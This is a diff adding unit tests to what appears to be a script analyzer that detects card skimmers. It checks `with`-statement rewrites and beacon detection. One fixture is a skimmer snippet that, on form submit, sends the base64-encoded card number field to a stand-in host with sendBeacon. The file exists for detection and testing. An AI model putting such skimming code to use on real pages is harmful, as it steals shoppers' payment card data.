@@ -59,3 +59,36 @@ describe('functions held under other names', () => {
     expect(v.findings.map((f) => f.message).join('\n')).not.toContain('via beacon')
   })
 })
+
+describe('with statements the rewrite leaves alone', () => {
+  it.each([
+    [
+      'the body declares the object name',
+      `function f(x){var o={go:x.g};with(o){[1].forEach(function(o){go(o)})}}`,
+    ],
+    ['a key is the object name', `function f(x){var o={o:1,go:x.g};with(o){go(o)}}`],
+    ['the object name is given another value', `function f(x){var o={go:x.g};o=x;with(o){go(1)}}`],
+  ])('%s', (_why, source) => {
+    expect(rewrite(source) ?? '').not.toContain('o.go')
+  })
+
+  it('the last property of a name is the one the object holds', () => {
+    const ctx = {
+      url: 'https://www.shop.example/a.js',
+      pageUrl: 'https://www.shop.example/checkout/',
+    }
+    const send = (literal: string): string =>
+      analyzeScript(
+        `var io = ${literal}; document.addEventListener('submit', function () { io.go('https://x.example/c', btoa(document.querySelector('#cc_number').value)) })`,
+        ctx,
+      )
+        .findings.map((f) => f.message)
+        .join('\n')
+    expect(send(`{ go: console.log, go: navigator.sendBeacon.bind(navigator) }`)).toContain(
+      'via beacon',
+    )
+    expect(send(`{ go: navigator.sendBeacon.bind(navigator), ...more }`)).not.toContain(
+      'via beacon',
+    )
+  })
+})
